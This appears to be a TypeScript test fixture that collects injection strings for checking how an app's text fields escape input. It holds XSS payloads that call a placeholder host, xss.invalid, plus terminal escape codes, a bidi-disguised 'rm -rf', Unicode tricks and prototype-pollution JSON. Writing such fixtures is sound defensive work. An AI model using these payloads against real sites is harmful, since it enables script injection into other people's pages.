/** Texts that try to become code, markup or other text. */

/** The payload: it sets a variable and sends a request. */
const RUN = "window.__xss=1,fetch(`//xss.invalid/`)";

/** Texts for every text field. */
export const CORPUS = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title></style></textarea></noscript><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `'"><img src=x onerror=${RUN}>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `javascript:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<body onload="${RUN}">`,
  `<base href="//xss.invalid/">`,
  `<link rel=stylesheet href="//xss.invalid/x.css">`,
  `<meta http-equiv=refresh content="0;url=//xss.invalid/">`,
  `<style>*{background:url(//xss.invalid/x)}</style>`,
  `" onmouseover="${RUN}" x="`,
  `' style='animation-name:x' onanimationstart='${RUN}`,
  `<hub-row data-id="1" onclick="${RUN}"></hub-row><hub-sign-in></hub-sign-in>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J\u009b31m`,
  `line one\nline two\r\nline three\u2028four\u2029five\u0085six`,
  `allow \u202ednuora eht yaw rehto\u202c rm -rf`,
  `\u2066\u2067isolates\u2069 without an end \u202e\u202d\u202b`,
  `zero\u200bwidth\u200c\u200d\u2060\ufeff and tags \u{e0061}\u{e0062}`,
  `combining Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d`.repeat(20),
  `\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u4e2d\u6587 \u{1f468}\u200d\u{1f469}\u200d\u{1f467}`,
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "null",
  "NaN",
  "[object Object]",
];

/** The texts with a payload, for fields of which a page has only one. */
export const WORST = CORPUS.filter((text) => text.includes("xss"));

/** As long as a notification's text may be. */
export const LONG = `<b onclick="${RUN}">${"never breaks".repeat(5000)}`.slice(
  0,
  60_000,
);

/** JSON of an object whose keys are properties of every object. */
export const POLLUTION = `{"__proto__":{"polluted":1,"toString":"x"},"constructor":{"prototype":{"polluted":1}},"hasOwnProperty":1,"toString":null,"valueOf":{},"length":-1,"then":"x","toJSON":"x","__defineGetter__":[],"completed":"<img src=x onerror='${RUN}'>","total":{"__proto__":[]}}`;
